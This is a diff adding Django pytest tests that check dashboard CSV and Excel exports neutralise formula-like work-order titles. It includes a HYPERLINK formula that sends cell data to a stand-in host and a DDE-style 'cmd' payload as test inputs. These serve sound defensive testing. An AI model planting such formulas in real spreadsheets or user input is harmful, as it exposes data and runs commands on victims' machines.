@@ -6,17 +6,22 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
+from datetime import timedelta
 
 import pytest
 from django.test import Client
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import load_workbook
 from plotly import graph_objects
 
+from analytics.dashboards.exports import neutralised
 from analytics.dashboards.rollups import rollups_refresh
 from tests.analytics.dashboards.conftest import History
 from tests.analytics.dashboards.pages import number, read
 from tests.conftest import City, Personas
+from workorders.models import WorkOrder
 
 pytestmark = pytest.mark.django_db
 
@@ -146,3 +151,49 @@ def test_plotly_is_served_from_our_own_static_files(manager: Client) -> None:
     assert b"plotly.js" in body[:2000] and len(body) > 1_000_000
     script = manager.get(next(src for src in page.scripts if src.endswith("dashboard.js")))
     assert script.status_code == 200
+
+
+FORMULA_TITLE = '=HYPERLINK("http://x"&A1,"y")'
+
+
+@pytest.fixture
+def formula_order(dispatched_order: WorkOrder) -> WorkOrder:
+    """An overdue order whose title is a spreadsheet formula (typed by a caller or an operator)."""
+    WorkOrder.objects.filter(pk=dispatched_order.pk).update(
+        title=FORMULA_TITLE, resolve_due_at=timezone.now() - timedelta(days=2)
+    )
+    return dispatched_order
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_starting_like_a_formula_is_text_and_signed_numbers_stay_numbers(start: str) -> None:
+    assert neutralised(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"
+    assert neutralised("+1.5") == "+1.5" and neutralised("-12") == "-12" and neutralised("-3.0%") == "-3.0%"
+    assert neutralised("路灯不亮") == "路灯不亮" and neutralised(7) == 7
+
+
+def test_a_title_written_as_a_formula_is_exported_as_text_in_csv_and_excel(
+    client: Client, personas: Personas, formula_order: WorkOrder
+) -> None:
+    client.force_login(personas.manager)
+
+    csv_rows = list(
+        csv.reader(
+            io.StringIO(
+                download(client, reverse("dashboard-export", args=["overdue_orders", "csv"])).content.decode(
+                    "utf-8-sig"
+                )
+            )
+        )
+    )
+    row = next(row for row in csv_rows if row[0] == formula_order.number)
+    assert row[1] == "'" + FORMULA_TITLE  # a spreadsheet shows the text and runs nothing
+
+    content = download(client, reverse("dashboard-export", args=["overdue_orders", "xlsx"])).content
+    sheet = load_workbook(io.BytesIO(content)).active
+    cell = next(r[1] for r in sheet.iter_rows(min_row=4) if r[0].value == formula_order.number)
+    assert cell.value == FORMULA_TITLE and cell.data_type == "s"
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "</f>" not in xml  # no formula element anywhere: the title is a text cell
+    assert '<is><t>=HYPERLINK("http://x"&amp;A1,"y")</t></is>' in xml
